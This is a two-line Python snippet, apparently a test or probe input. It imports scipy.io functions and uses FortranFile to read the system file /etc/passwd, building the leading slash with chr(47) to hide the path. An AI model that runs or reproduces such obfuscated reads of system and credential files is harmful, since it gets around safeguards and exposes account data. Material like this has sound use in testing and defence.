from scipy.io import hb_read, mminfo, whosmat, FortranFile
FortranFile(chr(47) + "etc/passwd").read_ints()
